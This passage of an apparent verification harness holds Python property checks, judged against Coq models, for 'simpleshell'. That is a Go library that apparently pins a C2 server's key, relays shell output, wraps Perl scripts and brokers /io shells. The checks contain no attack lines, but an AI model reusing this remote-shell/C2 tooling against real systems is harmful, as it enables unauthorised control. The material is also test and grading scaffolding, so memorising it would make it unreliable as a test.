    run.trusted += ["harness/overlay/iobroker", "props/brokerlib.py", "coq/Model/Broker.v tied by this correspondence"]


def replay(run, path):
    if json.load(open(path)).get("case", {}).get("stream") == "shutdownrace":
        print("scheduler-dependent finding: re-run  bin/check C04 --tier thorough ; detail:", json.load(open(path))["case"].get("detail"))
        return 1
    return B.replay(run, path, 4)
