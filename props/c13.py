"""C13 - simpleshell talks only to the pinned key, and the pin is per connection."""
import base64, hashlib, json, os
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.Pin Judge.Common Judge.C13."
CLAUSES = {1: "shell traffic was exchanged although no presented certificate's key hashes to the configured fingerprint (or the fingerprint is malformed / "
              "validation must fail) - or a connection that had to succeed was refused",
           2: "the process's default HTTP client / transport settings were changed by a call",
           3: "simpleshell.Go panicked", 10: "model/implementation differ on the error class"}
CLS = {"ok": 0, "badfp": 1, "nomatch": 2, "x509": 3, "other": 4}


def pin(spki_hex):
    return base64.b64encode(hashlib.sha256(bytes.fromhex(spki_hex)).digest()).decode()


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay harness/drv && drv pingen / drv pin (httptest TLS servers with generated keys and chains; SSL_CERT_FILE = a generated CA)")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    d = os.path.join(run.rundir, "pin")
    os.makedirs(d, exist_ok=True)
    rc, o, e = vlib.sh([drv, "pingen", d], timeout=120)
    rng = run.rng
    nsrv = 8 if run.tier == "quick" else 40
    servers = [{"chainlen": rng.choice([1, 1, 2, 3]), "trusted": k % 4 == 0} for k in range(nsrv)]
    # impostors: a server presenting a certificate with the SAME name and serial number as an untrusted server's, but its own key
    genuine = [k for k, sv in enumerate(servers) if not sv["trusted"] and sv["chainlen"] == 1][:3]
    impostors = {}
    for g in genuine:
        impostors[g] = len(servers)
        servers.append({"chainlen": 1, "trusted": False, "impostor_of": g})
    header = {"servers": servers}
    env = dict(os.environ, SSL_CERT_FILE=os.path.join(d, "trusted.pem"), SSL_CERT_DIR=d)
    kinds = ["own0", "own0-prefixed", "other", "empty", "prefix-only", "not-b64", "short", "nopad", "crlf", "own-last", "own-mid", "garbage-after", "urlsafe", "hex", "own0", "empty"]
    n = 120 if run.tier == "quick" else 1500
    calls = [{"srv": rng.randrange(nsrv), "kind": (kinds[k % len(kinds)] if k < 2 * len(kinds) else rng.choice(kinds))} for k in range(n)]
    # directed sequences on ONE server: what an earlier connection established (a TLS session, a cached client) must not carry over
    for sv in range(nsrv):
        calls += [{"srv": sv, "kind": k} for k in ("other", "own0", "other", "own0-prefixed", "empty", "other", "not-b64", "other")]
    # the C2 URL's scheme spelled HTTPS:// or Https:// (schemes are case-insensitive): the pin applies all the same
    for sv in range(nsrv):
        for kd in ("own0", "other", "not-b64", "empty"):
            calls.append({"srv": sv, "kind": kd, "scheme": ["HTTPS", "Https"][sv % 2]})
    # through a forwarding proxy (HTTPS_PROXY in the environment, C2 named c2.example): the pin is checked against the C2's certificate all the same
    for sv in range(nsrv):
        for kd in ("own0", "other", "own0-prefixed", "empty", "short"):
            calls.append({"srv": sv, "kind": kd, "proxy": True})
    # the pinned server answers with a redirect to another https server: that connection is a connection like any other - pinned, refused unless the key matches
    redirs = []
    for sv in range(min(nsrv, 6)):
        for tgt in ((sv + 1) % nsrv, (sv + 3) % nsrv):
            calls.append({"srv": sv, "kind": "own0", "redirect": tgt}); redirs.append(len(calls) - 1)
        calls.append({"srv": sv, "kind": "own0", "redirect": sv}); redirs.append(len(calls) - 1)      # control: redirected to itself (same key)
    # overlapping calls: a second call runs to completion while the first is between configuring its client and connecting
    for sv in range(nsrv):
        for outer, inner in (("other", "own0"), ("empty", "own0"), ("own0", "other"), ("own0", "empty"), ("other", "other")):
            calls.append({"srv": sv, "kind": outer, "nested": {"srv": sv, "kind": inner}})
            calls.append({"srv": sv, "kind": outer, "nested": {"srv": (sv + 1) % nsrv, "kind": "own0"}})
    # the genuine server first (so that whatever a call may remember about its certificate is remembered), then its impostor with the GENUINE pin
    for g, imp in impostors.items():
        calls += [{"srv": g, "kind": "own0"}, {"srv": imp, "kind": "pin-of", "of": g}, {"srv": imp, "kind": "own0"}, {"srv": g, "kind": "pin-of", "of": imp},
                  {"srv": g, "kind": "own0-prefixed"}, {"srv": imp, "kind": "pin-of", "of": g}]
    inputs = [dict({"i": k, "srv": c["srv"], "kind": c["kind"]}, **dict(({"nested": dict(c["nested"], i=100000 + k)} if "nested" in c else {}), **({"of": c["of"]} if "of" in c else {}),
                          **({"scheme": c["scheme"]} if "scheme" in c else {}), **({"proxy": True} if c.get("proxy") else {}), **({"redirect": c["redirect"]} if "redirect" in c else {}))) for k, c in enumerate(calls)]
    res, err = vlib.run_drv(drv, "pin", [header] + inputs, args=[d], env=env, timeout=900)
    if err or not res or len(res) != len(inputs) + 1:
        run.oblige("pin driver ran all calls", False, "%s (%d results)" % (err, len(res or [])))
        return
    spkis = res[0]["spkis"]
    run.oblige("process-wide HTTP defaults untouched at start", res[0].get("global_before", "") == "", res[0].get("global_before", ""))
    rs = res[1:]
    def rterm(i, r):
        hops = [i["srv"], i["redirect"]]
        hp = "; ".join("([%s], %s)" % ("; ".join(vlib.coq_str(bytes.fromhex(x)) for x in spkis[h]), str(bool(servers[h]["trusted"])).lower()) for h in hops)
        return "mkr %s [%s] [%s; %s] %s" % (vlib.coq_str(bytes.fromhex(r.get("fp", ""))), hp, str(bool(r.get("hit"))).lower(), str(bool(r.get("redir_hit"))).lower(),
                                           str(bool(r.get("global"))).lower())
    rin = [dict(inputs[k], chainlen=servers[inputs[k]["srv"]]["chainlen"], target_has_same_key=spkis[inputs[k]["redirect"]][0] == spkis[inputs[k]["srv"]][0]) for k in redirs]
    vlib.judge_stream(run, "redirects", IMPORTS, "rcase", rin, [rs[k] for k in redirs], rterm,
                      {1: "a call pinned to one server's key followed that server's redirect to an https server with ANOTHER key and sent it a request",
                       2: "process-wide HTTP defaults changed", 10: "Model/Pin.hops_hit differs from which servers received a request"}, (),
                      "pinned calls whose server answers 302 to another https server (other key) or to itself (same key): which servers receive a request is "
                      "Model/Pin.go_hops - every connection of the call is held to the pin", judge="judge_redir", key_fn=lambda i: "%d-%d" % (i["srv"], i["redirect"]))
    nprox = sum(1 for i in inputs if i.get("proxy"))
    run.oblige("calls naming the C2 c2.example really went through the forwarding proxy (%d CONNECTs for %d such calls which got as far as connecting)" % (
               max([r.get("proxied", 0) for r in rs] or [0]), nprox), nprox == 0 or max([r.get("proxied", 0) for r in rs] or [0]) >= nprox // 2, "")
    run.cov["proxied_connects"] = max([r.get("proxied", 0) for r in rs] or [0])
    run.cov["calls_stopped_by_the_watchdog"] = [dict(inputs[k], ms=r.get("ms")) for k, r in enumerate(rs) if r.get("r") == "hung"][:10]
    run.cov["slowest_call_ms"] = max([r.get("ms", 0) for r in rs] or [0])
    # a nested call is a call of its own
    for i, r in list(zip(inputs, rs)):
        if "nested" in i and r.get("nested"):
            inputs.append({"i": i["nested"]["i"], "srv": i["nested"]["srv"], "kind": i["nested"]["kind"], "ran_inside_call": i["i"]})
            rs.append(r["nested"])

    def term(i, r):
        ch = spkis[i["srv"]]
        return "mk %s [%s] %s %s %d %s" % (vlib.coq_str(bytes.fromhex(r.get("fp", ""))), "; ".join(vlib.coq_str(bytes.fromhex(x)) for x in ch),
                                         str(bool(servers[i["srv"]]["trusted"])).lower(), str(bool(r.get("hit"))).lower(),
                                         5 if r.get("r") == "panic" else CLS.get(r.get("cls", "ok") if r.get("r") == "err" else "ok", 4),
                                         str(bool(r.get("global"))).lower())
    # (calls whose server redirects are judged by the monitor above only: the model decides single connections)
    keep = [k for k, i in enumerate(inputs) if "redirect" not in i]
    inputs, rs = [inputs[k] for k in keep], [rs[k] for k in keep]
    ins = [dict(i, chainlen=servers[i["srv"]]["chainlen"], trusted=servers[i["srv"]]["trusted"]) for i in inputs]
    vlib.judge_stream(run, "calls", IMPORTS, "case", ins, rs, term, CLAUSES, (),
                      "sequences of simpleshell.Go calls in ONE process against %d TLS servers with generated keys (chains of 1-3 certificates; every fourth "
                      "leaf issued by a CA the process trusts), mixing: the server's own pin with and without sha256//, the pin of the last / a middle "
                      "certificate of the chain, another server's pin, no fingerprint, the bare prefix, non-base64, 31 bytes, missing padding, embedded "
                      "CR/LF, garbage after the padding, URL-safe alphabet, hex; SHA-256 and base64 of the presented keys are recomputed inside Coq; "
                      "directed sequences on each server (wrong pin after a right one, no pin after a pinned call); impostors presenting the genuine "
                      "certificate's name and serial with another key, called with the genuine pin right after the genuine server; overlapping calls (a second call, "
                      "with another pin or none, to the same or another server, runs to completion while the first is between configuring its client "
                      "and connecting - each is judged on its own configuration); "
                      "after every call http.DefaultClient and http.DefaultTransport are compared with their initial state" % nsrv,
                      key_fn=lambda i: "%d-%s-%d" % (i["srv"], i["kind"], i["i"]))
    run.assumptions += ["the TLS stack calls VerifyConnection before any request byte is written; the peer's certificates are as crypto/tls reports them",
                        "SHA-256 collision resistance", "ordinary X.509 validation is the library's: the harness makes it succeed (trusted CA) or fail (self-signed)"]
    run.trusted += ["harness/drv/pin.go", "props/c13.py", "coq/Model/Pin.v tied by this correspondence"]


def replay(run, path):
    body = json.load(open(path))
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:3000])
    print("keys are generated per run: re-run bin/check C13 --tier quick (the fingerprint KIND and chain position reproduce the case)")
    return 1
