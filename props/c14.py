"""C14 - simpleshell relays everything the wrapped command writes before reporting EOF."""
import json, os
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.CmdShell Judge.Common Judge.C14."
CLAUSES = {1: "the output stream did not report end-of-file after the command had exited and its output was drained (within the time limit)",
           2: "bytes the command wrote to standard output did not all arrive, in order, before end-of-file",
           3: "bytes the command wrote to standard error did not all arrive, in order, before end-of-file",
           4: "the output stream carried bytes the command never wrote",
           5: "Go's result does not reflect the exit status (error iff non-zero)"}


def prog(o_bursts, e_bursts, order, exit_status, tail_sleep_ms, stdin_echo, close_stdout_first):
    """A Perl child: bursts of sequence-numbered text on stdout ([0-9o\\n]) and stderr ([A-Z e ;])."""
    p = ["$|=1; select(STDERR); $|=1; select(STDOUT);", "my $i=0; my $j=0;"]
    if stdin_echo:
        p.append("while(<STDIN>){ chomp; print 'o', length($_), \"\\n\"; }")
    steps = []
    for b in o_bursts:
        steps.append(("o", b))
    for b in e_bursts:
        steps.append(("e", b))
    if order == "interleave":
        steps = [x for pair in zip(steps[::2], steps[1::2]) for x in pair] + ([steps[-1]] if len(steps) % 2 else [])
    elif order == "err-first":
        steps.sort(key=lambda s: s[0] != "e")
    for kind, (n, sleep_ms) in steps:
        if kind == "o":
            p.append("for(1..%d){ printf STDOUT \"o%%07d\\n\", ++$i; }" % n)
        else:
            p.append("for(1..%d){ printf STDERR \"E%%sX;\", 'A' x (++$j %% 5); }" % n)
        if sleep_ms:
            p.append("select(undef,undef,undef,%f);" % (sleep_ms / 1000.0))
    if close_stdout_first:
        p.append("close(STDOUT); select(undef,undef,undef,0.02); for(1..50){ printf STDERR \"E%sX;\", 'Z'; $j++; }")
    if tail_sleep_ms:
        p.append("select(undef,undef,undef,%f);" % (tail_sleep_ms / 1000.0))
    if exit_status >= 1000:                                  # the command dies of a signal
        p.append("kill %d, $$; select(undef,undef,undef,5);" % (exit_status - 1000))
    else:
        p.append("exit %d;" % exit_status)
    return "\n".join(p)


def expected(o_bursts, e_bursts, stdin_lines, close_stdout_first):
    o = b""
    for l in stdin_lines:
        o += b"o%d\n" % len(l)
    k = 0
    for n, _ in o_bursts:
        for _ in range(n):
            k += 1; o += b"o%07d\n" % k
    e, j = b"", 0
    for n, _ in e_bursts:
        for _ in range(n):
            j += 1; e += b"E" + b"A" * (j % 5) + b"X;"
    if close_stdout_first:
        e += b"EZX;" * 50
    return o, e


def make_cases(rng, tier):
    cases = []
    sizes = [0, 1, 10, 1000, 7300, 9000, 20000]          # lines; 9 bytes each: 7300 ~ one 64 KiB pipe buffer, 20000 ~ 3 buffers
    n = 40 if tier == "quick" else 500
    for k in range(n):
        ob = [(rng.choice(sizes), rng.choice([0, 0, 2])) for _ in range(rng.randrange(0, 3))]
        eb = [(rng.choice(sizes[:5]), rng.choice([0, 0, 2])) for _ in range(rng.randrange(0, 3))]
        if k < 6:                                            # the shape of the repaired defect: a big burst, exit at once, slow reader
            ob, eb = [(20000, 0)], [(7300, 0)] if k % 2 else []
        stdin_lines = [b"x" * rng.randrange(0, 50) for _ in range(rng.randrange(0, 4))] if rng.randrange(3) == 0 else []
        cfs = rng.randrange(6) == 0
        c = {"i": k, "o": ob, "e": eb, "order": rng.choice(["out-first", "interleave", "err-first"]), "exit": rng.choice([0, 0, 1, 3, 255, 1009, 1015, 1006, 1011]),
             "tail": rng.choice([0, 0, 0, 30]), "stdin": stdin_lines, "cfs": cfs,
             "stdin_mode": rng.choice(["close", "close", "open"]) if not stdin_lines else rng.choice(["close", "dataeof"]),
             "read": rng.choice([1 << 16, 4096, 512, 100]), "pause_us": rng.choice([0, 0, 200, 2000]) if k >= 6 else 2000}
        if k in (7, 9, 11) and not stdin_lines:                # make sure the data-with-EOF reader is exercised in every run
            stdin_lines = [b"x" * (k + 1), b"yy", b""]
            c["stdin"], c["stdin_mode"] = stdin_lines, "dataeof"
        if c["stdin_mode"] == "open" and stdin_lines:
            c["stdin_mode"] = "close"
        total = sum(x[0] for x in ob) * 9 + sum(x[0] for x in eb) * 5
        if c["read"] <= 512 and c["pause_us"] >= 2000 and total > 100000:
            c["read"] = 4096                                  # keep the slowest combination bounded (~2 s)
        cases.append(c)
    return cases


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay harness/drv && drv cmdshell (real child processes: perl emitting scripted bursts; consumer reading at scripted paces)")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    cases = make_cases(run.rng, run.tier)
    inputs = []
    for c in cases:
        inputs.append({"i": c["i"], "perl": prog(c["o"], c["e"], c["order"], c["exit"], c["tail"], bool(c["stdin"]), c["cfs"]),
                       "stdin": (b"".join(l + b"\n" for l in c["stdin"])).hex(), "stdin_mode": c["stdin_mode"], "read": c["read"],
                       "pause_us": c["pause_us"], "limit_ms": 8000})
    # independent processes: run in parallel slices
    import concurrent.futures as cf
    slices = [inputs[k::8] for k in range(8)]
    with cf.ThreadPoolExecutor(max_workers=8) as ex:
        outs = list(ex.map(lambda sl: vlib.run_drv(drv, "cmdshell", sl, timeout=900), slices))
    res_by_i = {}
    for rs, err in outs:
        if err:
            run.oblige("cmdshell driver ran", False, str(err))
            return
        for r in rs:
            res_by_i[r["i"]] = r
    res = [res_by_i.get(c["i"], {}) for c in cases]

    def term(c, r):
        wo, we = expected(c["o"], c["e"], c["stdin"], c["cfs"])
        g = r.get("go", "stuck")
        ge = 0 if g == "nil" else 1 if g.startswith("exit:") else 3 if g == "stuck" else 2
        return "mk %s %s %s %s %d %d" % (vlib.coq_str(wo), vlib.coq_str(we), vlib.coq_str(bytes.fromhex(r.get("out", ""))),
                                        str(bool(r.get("eof"))).lower(), c["exit"] if c["exit"] < 1000 else 128 + c["exit"] - 1000, ge)
    shown = [dict({k: v for k, v in c.items() if k != "stdin"}, stdin=[l.decode() for l in c["stdin"]]) for c in cases]
    vlib.judge_stream(run, "children", IMPORTS, "case", shown, res, lambda c, r: term(cases[c["i"]], r), CLAUSES, (),
                      "real child processes under CmdShell: 0-2 bursts per descriptor of 0 / 1 / 10 / 1000 / 7300 (one pipe buffer) / 9000 / 20000 (three "
                      "buffers) sequence-numbered lines, stdout/stderr first or interleaved, optional pauses, stdout closed before late stderr output, exit "
                      "input delivered through a pipe or by a reader which returns its last bytes together with EOF; status 0/1/3/255 or death by SIGKILL/SIGTERM/SIGABRT/SIGSEGV, immediately or 30 ms after the last write, input echoed or left open and idle while the command exits; consumer "
                      "reading 100 B - 64 KiB at a time with pauses 0 - 2 ms; the first six cases reproduce the repaired truncation (big burst, immediate "
                      "exit, slow reader); timing is real: a loss seen is real, no loss seen proves nothing more than the run",
                      key_fn=lambda c: json.dumps(c, sort_keys=True), shard=6)
    # commands which cannot be started at all: the stream must end all the same and the failure must be reported
    nx = os.path.join(run.rundir, "not-executable"); open(nx, "w").write("#!/bin/sh\necho hi\n"); os.chmod(nx, 0o600)
    bi = os.path.join(run.rundir, "bad-interpreter"); open(bi, "w").write("#!/nonexistent/interpreter\necho hi\n"); os.chmod(bi, 0o700)
    ust = [{"i": k, "argv": av, "stdin": "", "stdin_mode": sm, "read": 4096, "pause_us": 0, "limit_ms": 2500}
           for k, (av, sm) in enumerate([(["/nonexistent/bin/sh"], "close"), ([nx], "open"), ([bi], "close"), (["no-such-command-on-the-path"], "open"), ([run.rundir], "close")])]
    urs, uerr = vlib.run_drv(drv, "cmdshell", ust, timeout=120)
    ubad = []
    for c, r in zip(ust, urs or []):
        ended = bool(r.get("eof")) or (bool(r.get("read_err")) and "no end of stream" not in r.get("read_err", ""))
        if r.get("r") == "newerr":
            continue                # refused before anything was started: nothing to end
        if not ended or r.get("go") in ("nil", "stuck"):
            ubad.append({"command": c["argv"], "output_stream_ended": ended, "Go_returned": r.get("go")})
    for b in ubad[:1]:
        run.violation("unstartable-command", "a command which cannot be started: the shell's output stream did not end, or Go did not report the failure",
                      {"stream": "unstartable", "input": b["command"], "detail": ubad})
    run.oblige("commands which cannot be started (no such file, not executable, bad interpreter, not on the PATH, a directory): the output stream ends and Go "
               "returns the error (%d commands)" % len(ust), not uerr and len(urs or []) == len(ust) and not ubad, json.dumps(ubad)[:1500] + str(uerr))
    run.stream("unstartable", len(ust), len(ust), "CmdShell around commands whose start fails", [ust[0]])
    run.assumptions += ["kernel pipes, os/exec and io.Pipe behave as their documentation says (EOF after the last writer closes and the buffer is drained; "
                        "Wait closes the parent's ends) - modelled in Model/CmdShell.v, exercised here",
                        "stdin bytes reaching the child unchanged is observed through the echoed line lengths only"]
    run.trusted += ["harness/drv/cmdshell.go", "props/c14.py", "coq/Model/CmdShell.v (protocol model)"]


def replay(run, path):
    body = json.load(open(path))
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:3000])
    print("re-run: bin/check C14 --tier quick (timing dependent: the case's burst sizes, order and reader pace reproduce it)")
    return 1
