"""C16 - a Perl script wrapped as a shell function still runs as the same program."""
import json, os, subprocess, tempfile
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.Perl Judge.Common Judge.C16."
CLAUSES = {1: "FromPerl failed or panicked",
           2: "the program text perl receives (shell single-quote value -> q{} -> y/sb/ -> unpack u) is not the trimmed script with its leading comment run blanked",
           3: "the comments kept in front of the function are not the leading comment run minus #! and bare # lines",
           4: "the function is not named after the file's base name without extension",
           10: "model/implementation differ on FromPerl output"}
NAMES = [b"x.pl", b"dir/sub/tool.pl", b"a.b.pl", b"noext", b"up.PL", b"dir.d/x", b"x.pl/", b"my_func.pl", b"/abs/p.pl", b"a-b.pl", b"x..pl"]
WS = [b"", b" ", b"\n", b"\n\n", b"\t", b"\r\n", b"\xc2\xa0", b"\xe2\x80\xa8", b"\xa0", b"\xe2\x80\x8b", b" \n \n", b"\x0b\x0c"]
HEADS = [b"", b"#!/usr/bin/perl\n", b"#!/usr/bin/env perl\n#\n# Title\n# more\n", b"#\n#\n", b"# only comment\n", b"#!/p\n\n# after blank\n",
         b"# c1\n#!not first\n#\n", b"#\n# TABDOC: f does things\n", b"# it's a 'quoted' \\ comment {\n"]
BODIES = [b"print 1;", b"print \"hi\\n\";", b"my $x = 'it''s'; print $x;", b"print '\\\\';\n# trailing comment\nprint 2;", b"print q{a}{b};",
          b"\n\nprint 1;\n\n# c\n", b"use strict;\r\nprint 1;\r\n", b"__END__\nstuff", b"print <<'E';\n# not comment\nE\n", b"#"]


def gen(rng, tier):
    cases = [(b"x.pl", b""), (b"e.pl", b" "), (b"e.pl", b"\n"), (b"e.pl", b"\n\n\n"), (b"e.pl", b"#"), (b"e.pl", b"#!/usr/bin/perl"),
             (b"e.pl", b"#!/usr/bin/perl\n"), (b"e.pl", b"# c\n# d"), (b"", b"print 1"), (b"/", b"print 1"), (b".pl", b"print 1")]
    for n in range(0, 140):                     # every script length mod 45 and mod 3 around line boundaries
        cases.append((b"len.pl", bytes(rng.choice(b"abcXYZ;$ ()") for _ in range(n)) + b";"))
    for v in range(256):                        # every byte value inside the script
        cases.append((b"byte.pl", b"print '" + bytes([v]) * rng.randrange(1, 4) + b"x';"))
    nrand = 500 if tier == "quick" else 12000
    for _ in range(nrand):
        k = rng.randrange(6)
        if k < 3:
            s = rng.choice(WS) + rng.choice(HEADS) + rng.choice(BODIES) + rng.choice(WS)
        elif k == 3:
            s = rng.choice(HEADS) + bytes(rng.randrange(256) for _ in range(rng.choice([1, 5, 44, 45, 46, 90, 300, 2000])))
        elif k == 4:
            s = b"\n".join(rng.choice([b"#", b"# c", b"", b"print 1;", b"#!x", b" # indented", b"\n"]) for _ in range(rng.randrange(1, 9)))
        else:
            s = rng.choice(HEADS) + bytes(rng.choice([0, 0, 255, 39, 92, 96, 32, 64]) for _ in range(rng.randrange(1, 200)))
        cases.append((rng.choice(NAMES), s))
    for n in ([4096, 30000, 47000, 48500, 65536] if tier == "quick" else [4096, 47000, 48500, 65536, 90000]):
        cases.append((b"big.pl", b"# head\n" + bytes((i * 13 + 7) % 256 for i in range(n))))
    return cases


def term(i, r):
    out = "(Some %s)" % vlib.coq_str(bytes.fromhex(r["out"])) if r.get("r") == "ok" else "None"
    return "mk %s %s %s" % (vlib.coq_str(bytes.fromhex(i["name"])), vlib.coq_str(bytes.fromhex(i["src"])), out)


def vkey(i, r, cl):
    return "empty-script" if i["src"] == "" and cl == 2 else None


# ---- behavioural layer (differential test with real perl, dash, bash) ----
def perl_programs(rng, n):
    progs = [("empty", b""), ("ws", b"  \n\n"), ("commentonly", b"#!/usr/bin/perl\n# nothing\n"),
             ("crlf", b'print "a\r\nb\\n";\n')]
    lit = lambda: "".join("\\x%02x" % rng.randrange(1, 256) for _ in range(rng.randrange(0, 40)))
    for k in range(n):
        kind = k % 8
        head = rng.choice(["", "#!/usr/bin/perl\n", "#!/usr/bin/perl\n#\n# Tool\n# TABDOC: t%d does it's thing\n" % k, "# c\n\n"])
        if kind == 0:
            body = 'binmode STDOUT; print "%s";\n' % lit()
        elif kind == 1:
            body = 'print join("|", @ARGV), "\\n"; print scalar(@ARGV), "\\n";\n'
        elif kind == 2:
            body = 'while (my $l = <STDIN>) { print uc $l } print "done\\n";\n'
        elif kind == 3:
            body = 'print "before\\n"; exit %d;\n' % rng.choice([0, 1, 2, 3, 42, 255])
        elif kind == 4:
            body = 'print "x\\n";\ndie "it\'s broken {%d} \\\\ here\\n";\n' % k
        elif kind == 5:
            body = "print <<'EOT';\nhere's a {doc} with \\ and ' and `\n# not a comment\nEOT\nprint q{br{ace}s}, \"\\n\";\n"
        elif kind == 6:
            body = 'my %%h = (a => 1); print "$h{a} @{[ 1+%d ]}\\n"; printf("%%s-%%05d\\n", "s", 42);\n__END__\nignored \' text }\n' % k
        else:
            body = "# lead comment\nprint 'sb' x %d, \"\\\\'\\n\"; print __LINE__, \"\\n\";\n" % rng.randrange(1, 60)
        progs.append(("p%d" % k, (head + body).encode("latin-1")))
    return progs


def behaviour_layer(run, drv):
    n = 16 if run.tier == "quick" else 160
    progs = perl_programs(run.rng, n)
    inputs = [{"op": "fromperl", "name": (nm + ".pl").encode().hex(), "src": src.hex(), "i": k} for k, (nm, src) in enumerate(progs)]
    res, err = vlib.run_drv(drv, "sff", inputs)
    if err or not res or len(res) != len(inputs):
        run.oblige("behavioural test ran", False, str(err))
        return
    shells = [s for s in ("dash", "bash") if subprocess.run(["which", s], stdout=subprocess.DEVNULL).returncode == 0]
    argvs = [[], ["a"], ["two words", "-x", "it's", ""]]
    stdin = b"line one\nLine Two\n"
    bad, ran = [], 0
    for (nm, src), r in zip(progs, res):
        d = tempfile.mkdtemp(dir=run.rundir)
        open(os.path.join(d, nm + ".pl"), "wb").write(src)
        open(os.path.join(d, "f.sh"), "wb").write(bytes.fromhex(r.get("out", "")) + b'\n%s "$@"\n' % nm.encode())
        for av in argvs[: (2 if run.tier == "quick" else 3)]:
            ref = subprocess.run(["perl", nm + ".pl"] + av, cwd=d, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
            for s in shells:
                p = subprocess.run([s, "f.sh"] + av, cwd=d, input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
                ran += 1
                died = b"die " in src
                ok = p.stdout == ref.stdout and ((p.returncode != 0 and b"broken" in p.stderr) if died else p.returncode == ref.returncode)
                if not ok:
                    bad.append({"prog": nm, "src": src.hex(), "shell": s, "argv": av, "direct": [ref.returncode, ref.stdout.hex()[:200]],
                                "wrapped": [p.returncode, p.stdout.hex()[:200], p.stderr.decode(errors="replace")[:200]]})
    seen = set()
    for b in bad:
        key = "empty-script" if b["src"] == "" else "crlf-in-literal" if b["prog"] == "crlf" else "behaviour-" + b["prog"]
        if key in seen:
            continue
        seen.add(key)
        run.violation(key, "wrapped Perl script behaves differently from running it with perl directly (stdout / exit status)",
                      {"stream": "behaviour", "input": {"name": (b["prog"] + ".pl").encode().hex(), "src": b["src"]}, "detail": b})
    real_bad = [b for b in bad if b["src"] != "" and b["prog"] != "crlf"]
    run.oblige("behavioural test: %d runs of generated Perl programs, direct vs wrapped under %s (known findings excepted: empty script, raw CR LF inside a literal)" % (ran, "/".join(shells)),
               not real_bad, json.dumps(real_bad[:3])[:3000])
    run.cov["behaviour_runs"] = ran


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay (harness/drv inside /repo module) && drv sff")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    inputs = [{"op": "fromperl", "name": n.hex(), "src": s.hex(), "i": k} for k, (n, s) in enumerate(gen(run.rng, run.tier))]
    res, err = vlib.run_drv(drv, "sff", inputs)
    if err or res is None or len(res) != len(inputs):
        run.oblige("harness ran all FromPerl cases", False, str(err))
        return
    vlib.judge_stream(run, "fromperl", IMPORTS, "case", inputs, res, term, CLAUSES, (0, 1),
                      "FromPerl on generated scripts: empty / whitespace-only / comment-only, every length 0..140 (all uuencode line shapes), every byte "
                      "value, leading-comment shapes (#!, bare #, blank line inside, CR-LF), Unicode and invalid-UTF-8 whitespace at the edges, random "
                      "binary, large scripts; file names with directories, several dots, none. Non-trivial = distinct (name,script) that is neither "
                      "empty nor whitespace-only (model tags 2,3,12,13)", key_fn=lambda i: i["name"] + ":" + i["src"], vkey=vkey)
    behaviour_layer(run, drv)
    run.assumptions += ["perl -d with PERL5DB='BEGIN{...}' evaluates the text before the main program; q{}, y///r, unpack('u') as modelled in Model/Perl.v "
                        "(validated by the behavioural runs, not proved)", "dash and bash on this image stand for 'a POSIX shell'; perl 5.36 for perl"]
    run.trusted += ["harness/drv/sff.go", "props/c16.py generators", "hand-written model coq/Model/Perl.v; tie = this correspondence"]


def replay(run, path):
    def runner(case):
        ok, drv, log = vlib.build_drv(run.rundir)
        i = dict(case["input"]); i["i"] = 0; i["op"] = "fromperl"
        res, err = vlib.run_drv(drv, "sff", [i])
        fl, tags, errors, _ = vlib.coq_eval(run.rundir, "replay", IMPORTS, "case", [term(i, res[0])], "judge_all")
        return fl, "input: %s\nimplementation now: %s\njudge: %s %s" % (json.dumps(i)[:1500], json.dumps(res)[:1500],
                                                                      [(s, CLAUSES.get(c, c)) for _, s, c in fl], errors)
    return vlib.replay_generic(run, path, runner)
