"""C06 - both halves of a bidirectional /io shell come from the same request."""
import brokerlib as B
import vlib

CLAUSES = {6: "C06 monitor failed: the attached input and output streams belong to different /io requests (or an /io half is paired with a "
              "unidirectional stream), or a refused half was given I/O"}


def check(run):
    vlib.static_obligations(run)
    binp = B.build(run)
    if not binp:
        return
    hs = []
    for base in ("idle", "uni", "half", "teardown"):
        hs += B.io_orders(2, base)
    n3 = B.io_orders(3, "idle") + B.io_orders(3, "teardown")
    if run.tier == "quick":
        n3 = n3[:: 3]
    hs += n3
    if run.tier != "quick":
        hs += B.io_orders(3, "uni") + B.io_orders(3, "half") + run.rng.sample(B.io_orders(4, "idle"), 4000)
    B.run_stream(run, binp, "ioorders", 6, hs, CLAUSES,
                 "EXHAUSTIVE admission orders of the 2n halves of n simultaneously arriving /io requests: n=2 (all 24 orders) on an idle broker, "
                 "with a unidirectional shell attached, half attached and in its tear-down window; n=3 (720 orders; every third in the quick tier) "
                 "idle and tear-down [thorough: all bases, n=4 sampled]; after admission a probe line is entered and every request's output half "
                 "is offered output, so cross-pairing is observable; non-trivial = an /io request was involved (always)")
    n = 300 if run.tier == "quick" else 5000
    hs2 = [B.gen_history(run.rng, run.rng.choice([10, 20, 40]), "mixed") for _ in range(n)]
    B.run_stream(run, binp, "histories", 6, hs2, CLAUSES, "random mixed /i /o /io histories (see C01)")
    # really concurrent requests (a one-sided TEST: the non-atomic-counter kind of defect only shows under a real scheduler)
    import json, os
    outf = os.path.join(run.rundir, "stress.json")
    rounds = 1500 if run.tier == "quick" else 40000
    try:
        rc, o, e = vlib.sh([binp, "-test.run", "^TestVerifIoStress$", "-test.count=1"], cwd=run.rundir, timeout=600,
                           env=dict(os.environ, VERIF_OUT=outf, VERIF_STRESS=str(rounds)))
        st = json.load(open(outf))
    except Exception as ex:
        rc, st = 1, {"error": str(ex)}
    for b in (st.get("crosspairs") or [])[:1]:
        run.violation("io-stress-crosspair", "halves of two different concurrently arriving /io requests were both admitted (real scheduler, no gates)",
                      {"stream": "stress", "input": {"rounds": rounds}, "detail": b})
